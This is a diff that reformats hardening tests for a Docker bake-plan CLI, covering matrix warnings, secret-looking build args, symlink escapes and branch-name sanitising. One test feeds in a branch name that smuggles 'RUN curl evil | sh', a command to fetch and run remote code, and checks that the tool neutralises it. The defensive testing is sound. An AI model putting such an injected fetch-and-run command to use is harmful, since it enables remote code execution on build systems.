@@ -5,7 +5,15 @@ import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { runCli, testdir } from "../helpers.js";
-import { expectRefused, expectTreeUnchanged, HARD_CONTEXT, HARD_TEMPLATE, loc, plannedProject, snapshotTree } from "../hardening-helpers.js";
+import {
+  expectRefused,
+  expectTreeUnchanged,
+  HARD_CONTEXT,
+  HARD_TEMPLATE,
+  loc,
+  plannedProject,
+  snapshotTree,
+} from "../hardening-helpers.js";
 
 /** HARD_CONTEXT with one exact piece replaced; fails loudly if the fixture no longer has it. */
 function edit(from: string, to: string, text = HARD_CONTEXT): string {
@@ -373,10 +381,13 @@ const valueRows: Row[] = [
   },
 ];
 
-const secretHint = /build args are stored in the image history\. Declare a bake secret under `secrets:` and read it with RUN --mount=type=secret,id=\.\.\. instead, or list \w+ in build\.allow_secret_like/;
+const secretHint =
+  /build args are stored in the image history\. Declare a bake secret under `secrets:` and read it with RUN --mount=type=secret,id=\.\.\. instead, or list \w+ in build\.allow_secret_like/;
 const secretRow = (name: string, arg: string, value: string, why: string): Row => ({
   name,
-  files: { "context.yaml": edit('PYTHON_VERSION: "3.12"', `PYTHON_VERSION: "3.12"\n    ${arg}: ${JSON.stringify(value)}`) },
+  files: {
+    "context.yaml": edit('PYTHON_VERSION: "3.12"', `PYTHON_VERSION: "3.12"\n    ${arg}: ${JSON.stringify(value)}`),
+  },
   at: (f) => [`${loc(yaml(f), JSON.stringify(value))}: defaults.args.${arg}`],
   message: new RegExp(`ARG ${arg} looks like a secret \\(${why}\\); ${secretHint.source}`),
 });
@@ -414,8 +425,12 @@ describe("hardening: matrix errors", () => {
     writeFileSync(join(dir, "context.yaml"), text);
     const res = await runCli(["plan"], dir);
     expect(res.code, res.stderr).toBe(0);
-    expect(res.stderr).toContain(`bakeplan: warning: ${loc(text, "- when: {framework: sglang, target", { offset: 2 })}: exclude[1]: This exclude only matches combinations an earlier exclude already matches`);
-    expect(res.stderr).toContain(`bakeplan: warning: ${loc(text, "when: {framework: vllm}")}: include[0]: This include only matches combinations no exclude removes`);
+    expect(res.stderr).toContain(
+      `bakeplan: warning: ${loc(text, "- when: {framework: sglang, target", { offset: 2 })}: exclude[1]: This exclude only matches combinations an earlier exclude already matches`,
+    );
+    expect(res.stderr).toContain(
+      `bakeplan: warning: ${loc(text, "when: {framework: vllm}")}: include[0]: This include only matches combinations no exclude removes`,
+    );
   });
 
   it("matrix: --max-variants raises the limit", async () => {
@@ -444,10 +459,15 @@ describe("hardening: image references and tags", () => {
     const dir = await plannedProject();
     const res = await runCli(["plan", "--branch", "..-feature/Foo Bar\nRUN curl evil | sh"], dir);
     expect(res.code, res.stderr).toBe(0);
-    const bake = JSON.parse(readFileSync(join(dir, "docker-bake.json"), "utf8")) as { target: Record<string, { tags: string[]; "cache-from": string[] }> };
+    const bake = JSON.parse(readFileSync(join(dir, "docker-bake.json"), "utf8")) as {
+      target: Record<string, { tags: string[]; "cache-from": string[] }>;
+    };
     const t = bake.target["vllm-dev"]!;
     expect(t.tags).toEqual(["registry.example.com/demo/app:feature-Foo-Bar-RUN-curl-evil-sh-vllm-dev"]);
-    expect(t["cache-from"]).toEqual(["type=registry,ref=registry.example.com/demo/cache:vllm-dev-feature-Foo-Bar-RUN-curl-evil-sh", "type=registry,ref=registry.example.com/demo/cache:vllm-dev-main"]);
+    expect(t["cache-from"]).toEqual([
+      "type=registry,ref=registry.example.com/demo/cache:vllm-dev-feature-Foo-Bar-RUN-curl-evil-sh",
+      "type=registry,ref=registry.example.com/demo/cache:vllm-dev-main",
+    ]);
   });
 });
 
@@ -462,7 +482,10 @@ describe("hardening: templates", () => {
     symlinkSync(join(outside, "evil.liquid"), join(dir, "templates/evil.liquid"));
     const before = snapshotTree(dir);
     const res = await runCli(["plan"], dir);
-    expectRefused(res, { at: [loc(text, "{% include", { file: "templates/Dockerfile.liquid" })], message: `evil.liquid is a link to ${join(outside, "evil.liquid")}, outside templates/` });
+    expectRefused(res, {
+      at: [loc(text, "{% include", { file: "templates/Dockerfile.liquid" })],
+      message: `evil.liquid is a link to ${join(outside, "evil.liquid")}, outside templates/`,
+    });
     expectTreeUnchanged(dir, before);
   });
 
@@ -471,7 +494,10 @@ describe("hardening: templates", () => {
     symlinkSync(join(dir, "templates/gone.liquid"), join(dir, "templates/link.liquid"));
     const before = snapshotTree(dir);
     const res = await runCli(["plan"], dir);
-    expectRefused(res, { at: ["templates/link.liquid: Broken link"], message: `(to ${join(dir, "templates/gone.liquid")})` });
+    expectRefused(res, {
+      at: ["templates/link.liquid: Broken link"],
+      message: `(to ${join(dir, "templates/gone.liquid")})`,
+    });
     expectTreeUnchanged(dir, before);
   });
 });
@@ -485,7 +511,14 @@ describe("hardening: secret-looking ARGs", () => {
 
   it("secrets: build.allow_secret_like lets a false positive through", async () => {
     const dir = await plannedProject();
-    writeFileSync(join(dir, "context.yaml"), edit("stage_axis:", "build:\n  allow_secret_like: [TOKENIZER_TOKEN]\nstage_axis:", edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "3.12"\n    TOKENIZER_TOKEN: bert-base')));
+    writeFileSync(
+      join(dir, "context.yaml"),
+      edit(
+        "stage_axis:",
+        "build:\n  allow_secret_like: [TOKENIZER_TOKEN]\nstage_axis:",
+        edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "3.12"\n    TOKENIZER_TOKEN: bert-base'),
+      ),
+    );
     writeFileSync(join(dir, "templates/Dockerfile.liquid"), `${HARD_TEMPLATE}{% arg TOKENIZER_TOKEN %}\n`);
     const res = await runCli(["plan"], dir);
     expect(res.code, res.stderr).toBe(0);
